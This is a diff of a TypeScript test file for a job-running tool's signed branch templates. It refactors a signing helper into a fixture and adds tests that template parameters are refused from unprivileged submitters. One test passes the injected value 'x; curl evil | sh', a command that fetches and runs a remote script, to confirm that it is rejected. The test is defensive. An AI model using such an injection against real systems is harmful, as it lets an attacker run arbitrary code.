@@ -1,17 +1,15 @@
-import { generateKeyPairSync, randomUUID, sign } from "node:crypto";
-import { afterAll, beforeAll, expect, test } from "vitest";
+import { randomUUID } from "node:crypto";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { z } from "zod";
-import { keepSignature } from "#access/keep-signature.ts";
 import { everybody } from "#access/principal.ts";
-import { publicKeyId, textOfPublicKey } from "#access/public-key.ts";
-import { signedSubject } from "#access/signed-subject.ts";
-import { revokeKey, trustKey } from "#access/trust-keys.ts";
+import { revokeKey } from "#access/trust-keys.ts";
+import type { Verb } from "#core/verb.ts";
 import { sql } from "#db/sql.ts";
 import { freshDb } from "../../../test/support/fresh-db.ts";
 import { farmOfGraphs } from "../farm-of-graphs.fixture.ts";
 import { nameRepository } from "../repository.store.ts";
 import { setBranchDefinition } from "./branch-definition.store.ts";
-import { findSignedCatalogs } from "./signed-catalog.store.ts";
+import { signCatalog } from "./sign-catalog.fixture.ts";
 
 const db = await freshDb();
 let farm: Awaited<ReturnType<typeof farmOfGraphs>>;
@@ -60,19 +58,7 @@ async function refusedCatalog(): Promise<string> {
   return /`grange sign (\S+) --key FILE`/.exec(refusal)?.[1] ?? "";
 }
 
-/** Makes a key, has it trusted, and signs the catalog with it. */
-async function signWith(keyName: string, catalog: string): Promise<void> {
-  const { publicKey, privateKey } = generateKeyPairSync("ed25519");
-  const bytes = Buffer.from(publicKey.export({ format: "jwk" }).x ?? "", "base64url");
-  const [found] = await findSignedCatalogs(db, catalog.slice(0, 12));
-  const subject = { kind: "catalog", digest: found?.signedDigest ?? "" } as const;
-  const signature = sign(null, signedSubject("catalog", subject.digest), privateKey);
-  await db.transaction(async (tx) => {
-    await trustKey(tx, keyName, textOfPublicKey(bytes), { by: "root", now });
-    const keyId = publicKeyId(bytes);
-    await keepSignature(tx, { subject, keyId, signature, signedBy: "alice" }, now);
-  });
-}
+const signWith = (keyName: string, catalog: string) => signCatalog(db, keyName, catalog);
 
 test("a protected branch refuses what nobody signed, names it, and runs it once it is signed", async () => {
   commitJob(`true # ${randomUUID()}`);
@@ -141,3 +127,47 @@ test("a priority above the cap is refused there, and not stored", async () => {
     submittedBy: "bob",
   });
 });
+
+describe("what signed templates leave open", () => {
+  const submitter = {
+    name: "carol",
+    grants: [rightsOf("submit")],
+  };
+
+  beforeAll(async () => {
+    farm.repository.write({
+      ".grange/farm.yml": [
+        "version: 1",
+        "parameters: {target: {default: staging}}",
+        "jobs:",
+        "  a:",
+        `    commands: ["deploy \${parameters.target} # ${randomUUID()}"]`,
+        "    inputs: []",
+      ].join("\n"),
+    });
+    farm.repository.commit("Change");
+    await signWith("templates", await refusedCatalog());
+  });
+
+  test("is not for every submitter to fill in, but may be named as the branch has it", async () => {
+    const evil = { parameters: { target: "x; curl evil | sh" } };
+
+    await expect(farm.submit(evil, submitter)).rejects.toThrow("what target is there its branch");
+    expect((await farm.submit({ parameters: { target: "staging" } }, submitter)).isNew).toBe(true);
+  });
+
+  test("is filled in by who may define, or once what comes of it is signed", async () => {
+    const production = { parameters: { target: "production" } };
+    const refusal = await farm.submit(production, submitter).catch((reason: Error) => reason);
+    const filled = /`grange sign (\S+) --key FILE`/.exec(String(refusal))?.[1] ?? "";
+
+    expect((await farm.submit(production, everybody)).isNew).toBe(true);
+    await signWith("filled", filled);
+
+    expect((await farm.submit(production, submitter)).isNew).toBe(true);
+  });
+});
+
+function rightsOf(verb: Verb) {
+  return { verb, repository: "*", branch: "*", priorityCap: null, top: false };
+}
